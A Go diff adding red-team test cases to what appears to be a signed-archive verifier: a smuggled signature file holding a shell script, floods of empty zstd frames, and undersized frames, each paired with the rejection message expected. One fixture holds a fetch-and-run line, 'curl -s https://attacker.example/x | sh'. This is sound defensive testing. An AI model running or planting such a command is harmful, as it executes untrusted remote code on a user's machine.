@@ -883,6 +883,41 @@ func specs() []spec {
 				})
 			}},
 
+		// ---- red team, issue 8 ----
+		{"redteam-smuggled-sig-file", `SHA256SUMS\.2\.sig": .*not a signature`,
+			"a genuine kit with an appended DSSE signature by nobody (empty keyid) and a SHA256SUMS.2.sig holding a shell script: untrusted signers' files are not verified, but they are extracted, so they must be signatures",
+			"", func(g *gen) []byte {
+				return g.rewrite(func(es []*entry) []*entry {
+					env := g.find(es, manifest.EnvelopeName)
+					env.Data = g.replaceOnce(env.Data, `"}]}`, `"},{"keyid":"","sig":"`+base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0x30}, 71))+`"}]}`)
+					i := index(es, manifest.SumsSigName)
+					script := file(Root+"/"+manifest.SumsSigNameFor(1), []byte("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"), manifest.ModeFile)
+					return append(es[:i+1], append([]*entry{script}, es[i+1:]...)...)
+				})
+			}},
+		{"redteam-empty-zstd-frames", `zstd frame at offset \d+ is empty`,
+			"the kit with 20,000 empty zstd frames (9 bytes each) after the first: each costs a reader a frame's overhead, so a few MB of them cost seconds before any signature is checked",
+			"", func(g *gen) []byte {
+				enc, err := zstd.NewWriter(nil, zstd.WithEncoderCRC(true), zstd.WithEncoderConcurrency(1))
+				g.must(err)
+				empty := enc.EncodeAll(nil, nil)
+				raw := g.raw()
+				first := zst(raw[:512])
+				return append(append(first, bytes.Repeat(empty, 20000)...), zst(raw[512:])...)
+			}},
+		{"redteam-short-zstd-frames", `more than 2 frames shorter than`,
+			"the kit's tar stream cut into 512-byte zstd frames: conforming writers fill every frame but the last of the head and of the payload",
+			"", func(g *gen) []byte {
+				raw := g.raw()
+				var out []byte
+				for len(raw) > 0 {
+					n := min(len(raw), 512)
+					out = append(out, zst(raw[:n])...)
+					raw = raw[n:]
+				}
+				return out
+			}},
+
 		// ---- oversized ----
 		{"oversize-pax-header", `header is larger than 16384 bytes`,
 			"a pax header of 20 KiB: an allowed mtime record with 20,000 fractional zeros (same time)",
